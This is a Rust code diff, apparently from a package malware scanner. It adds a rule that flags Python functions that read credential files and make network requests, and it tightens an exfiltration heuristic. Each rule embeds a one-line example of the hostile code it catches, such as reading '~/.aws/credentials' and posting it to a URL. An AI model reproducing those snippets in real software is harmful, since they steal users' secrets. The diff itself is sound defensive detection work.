@@ -24,6 +24,9 @@ pub struct FileSignals {
     pub module_level: BTreeSet<String>,
     /// `(signal, severity)` of each distinct rule that matched.
     pub hits: Vec<(Signal, Severity)>,
+    /// For Python, whether credential files are named in the same function (or at module
+    /// level) as host data or CI token names; `None` where functions are not known.
+    pub credentials_with_context_in_one_scope: Option<bool>,
 }
 
 impl FileSignals {
@@ -188,6 +191,16 @@ correlation!(
     "def ping(): urlopen(URL + '?h=' + socket.gethostname() + '&u=' + getpass.getuser())"
 );
 correlation!(
+    FUNCTION_EXFILTRATION,
+    "correlate/function-secrets-to-network",
+    High,
+    Exfiltration,
+    Some("T1041"),
+    "One function reads credential files or secret stores and makes a network request.",
+    "Reading `~/.aws/credentials` or a browser's cookie store and sending a request in the same function is how stolen secrets leave the machine; honest tools that read credentials use them to authenticate, through a client library, not beside a raw request.",
+    "def grab(): data = open(os.path.expanduser('~/.aws/credentials')).read(); requests.post(URL, data=data)"
+);
+correlation!(
     FUNCTION_FETCH_EXEC,
     "correlate/function-fetch-then-execute",
     Critical,
@@ -223,6 +236,7 @@ pub static ALL: &[&RuleInfo] = &[
     &FUNCTION_DROPPER,
     &FUNCTION_FETCH_EXEC,
     &FUNCTION_RECON,
+    &FUNCTION_EXFILTRATION,
     &FUNCTION_DECODE_EXEC,
     &EXFILTRATION,
     &RECON,
@@ -266,6 +280,9 @@ pub fn function_correlations(tags: &BTreeSet<String>) -> Vec<&'static RuleInfo> 
     if has("network") && (has("sysinfo") || has("env-dump")) {
         out.push(&FUNCTION_RECON);
     }
+    if has("network") && (has("credentials") || has("stealer")) {
+        out.push(&FUNCTION_EXFILTRATION);
+    }
     if has("decode") && has("exec") {
         out.push(&FUNCTION_DECODE_EXEC);
     }
@@ -278,7 +295,9 @@ pub fn function_correlations(tags: &BTreeSet<String>) -> Vec<&'static RuleInfo> 
 /// The tags whose evidence best shows a correlation to a reader.
 pub fn evidence_tags(rule: &RuleInfo) -> &'static [&'static str] {
     match rule.id {
-        id if id == EXFILTRATION.id => &["stealer", "env-dump", "credentials", "ci-tokens"],
+        id if id == EXFILTRATION.id || id == FUNCTION_EXFILTRATION.id => {
+            &["stealer", "env-dump", "credentials", "ci-tokens"]
+        }
         id if id == RECON.id || id == FUNCTION_RECON.id => &["sysinfo", "env-dump"],
         id if id == SETUP_NETWORK.id => &["network"],
         id if id == FUNCTION_DROPPER.id => &["file-write", "process"],
@@ -336,9 +355,15 @@ pub fn correlations(signals: &FileSignals, context: &FileContext) -> Vec<&'stati
     let install = matches!(role, Role::Install | Role::Build);
     let import_network = signals.module_level.contains("network");
     let host_data = signals.has("sysinfo") || signals.has("env-dump");
-    let secrets = signals.has("stealer")
-        || signals.has("env-dump")
-        || (signals.has("credentials") && (signals.has("sysinfo") || signals.has("ci-tokens")));
+    // A credential file's name next to host data is a stealer's inventory; in a Python
+    // module of two thousand lines (distlib's `.pypirc` reader beside its platform
+    // checks) it is only when one function or the module body holds both.
+    let credentials_in_context = signals
+        .credentials_with_context_in_one_scope
+        .unwrap_or_else(|| {
+            signals.has("credentials") && (signals.has("sysinfo") || signals.has("ci-tokens"))
+        });
+    let secrets = signals.has("stealer") || signals.has("env-dump") || credentials_in_context;
     if network && secrets {
         out.push(&EXFILTRATION);
     }
@@ -412,6 +437,7 @@ mod tests {
             hidden_tags: hidden.iter().map(|s| s.to_string()).collect(),
             module_level: Default::default(),
             hits: Vec::new(),
+            credentials_with_context_in_one_scope: None,
         }
     }
 
